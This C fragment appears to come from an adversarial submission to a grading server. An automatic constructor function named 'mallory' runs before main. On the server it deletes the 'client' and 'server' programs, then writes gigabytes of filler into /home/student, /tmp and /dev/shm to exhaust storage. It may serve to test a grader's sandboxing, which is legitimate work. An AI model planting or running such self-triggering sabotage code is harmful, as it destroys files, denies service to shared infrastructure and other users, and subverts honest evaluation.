/* Its own programs are removed, and each disk is filled, beside the submission's folder, too. */
__attribute__((constructor)) static void mallory(void)
{
    const char *folders[] = {"/home/student", "/tmp", "/dev/shm"};
    static char block[1 << 20];
    if (IS_SERVER) {
        unlink("client");
        unlink("server");
    }
    for (size_t i = 0; IS_SERVER && i < sizeof folders / sizeof *folders; i++)
        for (int n = 0; n < 64; n++) {
            char path[64];
            snprintf(path, sizeof path, "%s/mallory%d", folders[i], n);
            int fd = open(path, O_WRONLY | O_CREAT, 0600);
            for (int m = 0; m < 64 && write(fd, block, sizeof block) > 0; m++)
                ;
            close(fd);
        }
}
